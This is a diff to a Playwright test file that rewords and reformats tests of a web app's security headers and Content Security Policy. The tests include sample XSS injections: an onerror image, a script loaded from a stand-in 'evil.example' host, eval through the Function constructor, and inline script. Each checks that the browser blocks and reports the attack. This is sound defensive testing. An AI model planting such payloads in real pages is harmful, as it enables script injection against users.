@@ -2,7 +2,7 @@ import { expect, type Page } from '@playwright/test';
 import { headersFile, securityHeaders } from '../../../scripts/security-headers.mjs';
 import { onTheDemoAlone, test } from '../support/test.ts';
 
-/** What an attacker who got into a page would try; each leaves `window.harm` where it works. */
+/** Attacks on a page; each sets `window.harm` if it works. */
 const attacks: Record<string, () => unknown> = {
   'markup from text': () => {
     document.body.innerHTML = '<img src="x" onerror="window.harm = true">';
@@ -17,7 +17,7 @@ const attacks: Record<string, () => unknown> = {
     script.src = 'https://evil.example/harm.js';
     document.body.append(script);
   },
-  // Later, since what a test itself evaluates may do so.
+  // Delayed, since code that a test evaluates is exempt.
   'text as code': () => setTimeout(() => Reflect.construct(Function, ['window.harm = true'])()),
   'an attribute that is code': () => {
     document.body.setAttribute('onclick', 'window.harm = true');
@@ -67,7 +67,6 @@ const attacks: Record<string, () => unknown> = {
 };
 
 async function openLogin(page: Page): Promise<void> {
-  // Whatever did get out would find a host that answers.
   await page.route('https://evil.example/**', (route) =>
     route.fulfill({
       contentType: route.request().resourceType() === 'image' ? 'image/svg+xml' : 'text/javascript',
@@ -84,7 +83,7 @@ async function openLogin(page: Page): Promise<void> {
 
 const isHarmed = (page: Page) => page.evaluate(() => Reflect.get(window, 'harm') === true);
 
-test('everything comes with the security headers, and the build wrote them down for other hosts', async ({
+test('all responses have the security headers, and the build writes them for other hosts', async ({
   request,
   backend,
   apiPort,
@@ -99,25 +98,19 @@ test('everything comes with the security headers, and the build wrote them down 
   expect(await (await request.get('/_headers')).text()).toBe(headersFile(settings, '/'));
 });
 
-test(
-  'what an attacker would try in a page is stopped and reported',
-  onTheDemoAlone,
-  async ({ page, violations }) => {
-    await openLogin(page);
-    for (const [name, attack] of Object.entries(attacks)) {
-      await test.step(name, async () => {
-        // Some throw, which stops them just as well.
-        await page.evaluate(attack).catch(() => {});
-        await expect.poll(() => violations).not.toEqual([]);
-        expect(await isHarmed(page)).toBe(false);
-        expect(page.url()).toMatch(/\/login$/);
-        violations.length = 0;
-      });
-    }
-  },
-);
+test('attacks in a page are blocked and reported', onTheDemoAlone, async ({ page, violations }) => {
+  await openLogin(page);
+  for (const [name, attack] of Object.entries(attacks)) {
+    await test.step(name, async () => {
+      await page.evaluate(attack).catch(() => {});
+      await expect.poll(() => violations).not.toEqual([]);
+      expect(await isHarmed(page)).toBe(false);
+      expect(page.url()).toMatch(/\/login$/);
+      violations.length = 0;
+    });
+  }
+});
 
-/** Opens the login with markup added to what the host sends. */
 async function openWith(page: Page, markup: string): Promise<void> {
   await page.route('**/login', async (route) => {
     const response = await route.fetch();
@@ -127,14 +120,14 @@ async function openWith(page: Page, markup: string): Promise<void> {
   await openLogin(page);
 }
 
-test('a script that somebody got into the HTML does not run', async ({ page, violations }) => {
+test('a script in injected HTML does not run', async ({ page, violations }) => {
   await openWith(page, '<script>window.harm = true</script>');
   await expect.poll(() => violations).not.toEqual([]);
   expect(await isHarmed(page)).toBe(false);
   violations.length = 0;
 });
 
-test('data that the HTML carries is no script: it can be read, and nothing is reported', async ({
+test("the page's inline data is no script: it is readable and causes no report", async ({
   page,
 }) => {
   await openWith(
@@ -147,13 +140,9 @@ test('data that the HTML carries is no script: it can be read, and nothing is re
   expect(await data.allTextContents()).toEqual(['{"name":"CareSetu"}', '{"name":"CareSetu"}']);
 });
 
-test(
-  'no other site can show the app in a frame',
-  onTheDemoAlone,
-  async ({ page, baseURL, violations }) => {
-    await page.setContent(`<iframe src="${baseURL}/login"></iframe>`);
-    await expect.poll(() => violations).not.toEqual([]);
-    await expect(page.frameLocator('iframe').getByText('Login')).toHaveCount(0);
-    violations.length = 0;
-  },
-);
+test('no other site can frame the app', onTheDemoAlone, async ({ page, baseURL, violations }) => {
+  await page.setContent(`<iframe src="${baseURL}/login"></iframe>`);
+  await expect.poll(() => violations).not.toEqual([]);
+  await expect(page.frameLocator('iframe').getByText('Login')).toHaveCount(0);
+  violations.length = 0;
+});
